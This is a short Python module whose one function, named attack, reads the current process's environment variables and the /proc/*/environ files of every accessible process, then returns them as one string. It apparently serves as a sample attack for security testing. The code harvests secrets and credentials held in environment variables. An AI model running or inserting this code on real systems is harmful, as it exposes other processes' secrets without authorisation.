"""Reads every environment that it finds: its own, and those of all processes."""

import contextlib
import os
from pathlib import Path


def attack() -> str:
    found = [str(dict(os.environ))]
    for each in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):
            found.append(each.read_bytes().decode("utf-8", "replace"))
    return "\n".join(found)
